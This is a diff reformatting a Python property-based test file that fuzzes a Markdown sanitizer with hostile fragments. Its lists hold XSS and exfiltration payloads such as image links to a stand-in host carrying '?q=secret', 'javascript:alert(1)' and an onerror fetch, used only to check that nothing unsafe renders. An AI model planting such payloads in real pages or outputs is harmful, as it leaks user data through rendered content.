@@ -34,23 +34,106 @@ PERMISSIVE.linkify.add("www.", {"validate": re.compile(r"^[A-Za-z0-9-]+")})
 COMMONMARK = MarkdownIt("commonmark")
 
 PIECES = [
-    "`", "``", "```", "````", "~~~", "```x```", "```py", "~~~~", "```mermaid", "\n", "\n\n", "  \n", "    ",
-    "> ", "- ", "1. ", "# ", "|", "| a | b |\n|---|---|\n", "---", "***", "*", "_", "**", "\\", "$$", "$",
-    "![a](http://127.0.0.1:9/i.png?q=secret)", "![a][1]", "![a]", "[a][1]", "[a]", "[1]: http://127.0.0.1:9/r.png",
-    "\n[1]: <http://127.0.0.1:9/ref>\n", "[x](http://127.0.0.1:9/l)", "[ok](https://biblio.example/horario)",
-    "[ok](https://biblio.example.evil.example/)", "[x](javascript:alert(1))", "[x](//127.0.0.1:9/p)",
-    "<http://127.0.0.1:9/auto>", "<mailto:a@evil.example>", "<a@evil.example>", "http://127.0.0.1:9/bare",
-    "www.evil.example", "a@evil.example", "&#60;img src=http://127.0.0.1:9/e.png&#62;", "&lt;", "&amp;lt;",
-    "&#x3C;", "&#10;", "&#32;", "<img src=http://127.0.0.1:9/h.png>", '<img src="x" onerror="fetch(1)">',
-    "<svg><image href='http://127.0.0.1:9/s.svg'/></svg>", "<iframe src=http://127.0.0.1:9/f>", "<a href=x>",
-    "</a>", "<video poster=http://127.0.0.1:9/v.png>", "<source src=http://127.0.0.1:9/a.mp3>",
-    "<link rel=stylesheet href=http://127.0.0.1:9/c.css>", "<style>p{background:url(http://127.0.0.1:9/u)}</style>",
-    "<!-- c -->", "data:image/svg+xml;base64,PHN2Zz4=", "![d](data:image/png;base64,AAAA)",
-    "[s](data:text/html,<script>)", "%%%LATEX_BLOCK_0%%%", "\\`", "\\<", "\\\\", "\t", "x", "texto ", "ñ", "]", "[",
-    "(", ")", "!", ":", "<", ">", "\"", "'",
+    "`",
+    "``",
+    "```",
+    "````",
+    "~~~",
+    "```x```",
+    "```py",
+    "~~~~",
+    "```mermaid",
+    "\n",
+    "\n\n",
+    "  \n",
+    "    ",
+    "> ",
+    "- ",
+    "1. ",
+    "# ",
+    "|",
+    "| a | b |\n|---|---|\n",
+    "---",
+    "***",
+    "*",
+    "_",
+    "**",
+    "\\",
+    "$$",
+    "$",
+    "![a](http://127.0.0.1:9/i.png?q=secret)",
+    "![a][1]",
+    "![a]",
+    "[a][1]",
+    "[a]",
+    "[1]: http://127.0.0.1:9/r.png",
+    "\n[1]: <http://127.0.0.1:9/ref>\n",
+    "[x](http://127.0.0.1:9/l)",
+    "[ok](https://biblio.example/horario)",
+    "[ok](https://biblio.example.evil.example/)",
+    "[x](javascript:alert(1))",
+    "[x](//127.0.0.1:9/p)",
+    "<http://127.0.0.1:9/auto>",
+    "<mailto:a@evil.example>",
+    "<a@evil.example>",
+    "http://127.0.0.1:9/bare",
+    "www.evil.example",
+    "a@evil.example",
+    "&#60;img src=http://127.0.0.1:9/e.png&#62;",
+    "&lt;",
+    "&amp;lt;",
+    "&#x3C;",
+    "&#10;",
+    "&#32;",
+    "<img src=http://127.0.0.1:9/h.png>",
+    '<img src="x" onerror="fetch(1)">',
+    "<svg><image href='http://127.0.0.1:9/s.svg'/></svg>",
+    "<iframe src=http://127.0.0.1:9/f>",
+    "<a href=x>",
+    "</a>",
+    "<video poster=http://127.0.0.1:9/v.png>",
+    "<source src=http://127.0.0.1:9/a.mp3>",
+    "<link rel=stylesheet href=http://127.0.0.1:9/c.css>",
+    "<style>p{background:url(http://127.0.0.1:9/u)}</style>",
+    "<!-- c -->",
+    "data:image/svg+xml;base64,PHN2Zz4=",
+    "![d](data:image/png;base64,AAAA)",
+    "[s](data:text/html,<script>)",
+    "%%%LATEX_BLOCK_0%%%",
+    "\\`",
+    "\\<",
+    "\\\\",
+    "\t",
+    "x",
+    "texto ",
+    "ñ",
+    "]",
+    "[",
+    "(",
+    ")",
+    "!",
+    ":",
+    "<",
+    ">",
+    '"',
+    "'",
     # Halves that only make something next to each other (the escaping is minimal, so where text meets
     # text from an image's alt or a link's label matters): www + ., http: + / + /, ! + [, 1 + ".".
-    "![](x)", "&#33;", "www", "WWW", "http:", "ftp:", "/", ".", "1", "=", "#", "-", "+", ":-", "@",
+    "![](x)",
+    "&#33;",
+    "www",
+    "WWW",
+    "http:",
+    "ftp:",
+    "/",
+    ".",
+    "1",
+    "=",
+    "#",
+    "-",
+    "+",
+    ":-",
+    "@",
 ]
 # The issue's three payloads, literally.
 ISSUE_PAYLOADS = [
@@ -58,8 +141,9 @@ ISSUE_PAYLOADS = [
     f"```x```\n![i]({ATTACKER}/p6.png?q=secret)\n```",
     f'`x\n\n<img src="{ATTACKER}/p7.png">\n\n`',
 ]
-texts = st.lists(st.sampled_from(PIECES) | st.sampled_from(ISSUE_PAYLOADS) | st.text(max_size=6),
-                 max_size=24).map("".join)
+texts = st.lists(st.sampled_from(PIECES) | st.sampled_from(ISSUE_PAYLOADS) | st.text(max_size=6), max_size=24).map(
+    "".join
+)
 
 
 def _tokens(tokens):
@@ -79,8 +163,14 @@ def problems(shown: str) -> list[str]:
         elif token.type == "fence" and token.info.strip().lower().startswith("mermaid"):
             found.append("mermaid diagram")
     page = PERMISSIVE.render(shown)
-    found += [f"element {tag!r}" for tag in re.findall(r"<(img|svg|iframe|video|audio|source|link|style|object|"
-                                                       r"embed|image|script)\b", page)]
+    found += [
+        f"element {tag!r}"
+        for tag in re.findall(
+            r"<(img|svg|iframe|video|audio|source|link|style|object|"
+            r"embed|image|script)\b",
+            page,
+        )
+    ]
     return found
 
 
@@ -94,10 +184,13 @@ def test_the_issue_payloads_and_a_permissive_reader():
 def test_text_that_meets_across_an_image_or_a_link_makes_nothing():
     """Escaping is minimal, so two pieces of text that meet (an alt text, a link shown as its words) must
     not make together the autolink or image that neither makes alone."""
-    for text, seen in [("www![](x).evil.example", "www.evil.example"),
-                       ("www![.evil.example](x)", "www.evil.example"),
-                       ("http:![](x)/![](x)/127.0.0.1:9/p", "http://127.0.0.1:9/p"),
-                       ("\\![ok](https://biblio.example/a)", "!ok"), ("a&#33;[ok](https://biblio.example/a)", "a!ok")]:
+    for text, seen in [
+        ("www![](x).evil.example", "www.evil.example"),
+        ("www![.evil.example](x)", "www.evil.example"),
+        ("http:![](x)/![](x)/127.0.0.1:9/p", "http://127.0.0.1:9/p"),
+        ("\\![ok](https://biblio.example/a)", "!ok"),
+        ("a&#33;[ok](https://biblio.example/a)", "a!ok"),
+    ]:
         shown = safe(text, hosts=HOSTS)
         assert problems(shown) == [], (text, shown)
         assert re.sub(r"<[^>]+>", "", COMMONMARK.render(shown)).strip() == seen, (text, shown)
@@ -106,8 +199,13 @@ def test_text_that_meets_across_an_image_or_a_link_makes_nothing():
 def test_no_generated_text_renders_as_a_resource_or_a_foreign_link():
     tried = []
 
-    @settings(max_examples=3000, derandomize=True, deadline=None, database=None,
-              suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
+    @settings(
+        max_examples=3000,
+        derandomize=True,
+        deadline=None,
+        database=None,
+        suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
+    )
     @given(texts)
     def check(text):
         tried.append(text)
@@ -125,8 +223,9 @@ def test_no_generated_text_renders_as_a_resource_or_a_foreign_link():
 def test_a_literal_shows_as_typed_and_nothing_else():
     tried = []
 
-    @settings(max_examples=1000, derandomize=True, deadline=None, database=None,
-              suppress_health_check=[HealthCheck.too_slow])
+    @settings(
+        max_examples=1000, derandomize=True, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
+    )
     @given(texts)
     def check(text):
         tried.append(text)
